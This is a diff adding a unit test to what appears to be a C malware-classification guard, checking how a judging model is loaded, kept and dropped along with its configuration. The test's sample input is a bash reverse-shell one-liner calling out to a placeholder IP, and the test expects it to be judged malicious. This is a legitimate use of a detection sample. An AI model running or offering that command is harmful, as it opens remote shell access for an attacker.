@@ -12,6 +12,7 @@
 
 #include "classify/classify.h"
 #include "guard_side.h"
+#include "judge_model.h"
 
 #define ONE_LIST                                                                                   \
 	"version: 1\ncontent: {hash_lists: [{name: bad, path: /lists/bad, verdict: malicious}]}\n"
@@ -167,6 +168,34 @@ a_bad_configuration_is_refused_and_the_old_one_stays(void **state)
 }
 
 static void
+the_model_is_taken_kept_and_dropped_with_its_configuration(void **state)
+{
+	static const char shell[] = "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n";
+	_cleanup_close_ int fd = judge_model_fd(), text = lw_memfd_with("model", "text", 4);
+	struct fixture *f = *state;
+	const struct lw_assessment *a;
+
+	start_with_one_list(f);
+	guard_side_model(&f->side, 2, fd);
+	send_list(f, 2, 0, "evil");
+	assert_int_equal(guard_side_config(&f->side, 2, ONE_LIST)->ok, 1);
+	a = guard_side_judge(&f->side, shell, sizeof(shell) - 1);
+	assert_string_not_equal(a->model, "");
+	assert_int_equal(a->verdict, LW_VERDICT_MALICIOUS);
+	assert_true(a->score > 0.9f && a->score <= 1);
+	assert_int_equal(strncmp(a->reasons[0], "model ", 6), 0);
+	send_list(f, 3, 0, "evil");
+	guard_side_model(&f->side, 3, text);
+	expect_refusal(f, 3, ONE_LIST, "content.model: the file is no model, or is damaged");
+	assert_string_not_equal(guard_side_judge(&f->side, shell, sizeof(shell) - 1)->model, "");
+	send_list(f, 4, 0, "evil");
+	assert_int_equal(guard_side_config(&f->side, 4, ONE_LIST)->ok, 1);
+	a = guard_side_judge(&f->side, shell, sizeof(shell) - 1);
+	assert_string_equal(a->model, "");
+	assert_non_null(strstr(a->reasons[0], "behaviour: "));
+}
+
+static void
 a_new_gate_takes_the_place_of_the_old(void **state)
 {
 	struct fixture *f = *state;
@@ -249,6 +278,7 @@ main(void)
 		TEST(the_capture_is_written_to_the_second_descriptor),
 		TEST(a_reload_swaps_the_lists),
 		TEST(a_bad_configuration_is_refused_and_the_old_one_stays),
+		TEST(the_model_is_taken_kept_and_dropped_with_its_configuration),
 		TEST(a_new_gate_takes_the_place_of_the_old),
 		TEST(answers_wait_for_room),
 		TEST(a_malformed_frame_ends_the_role),
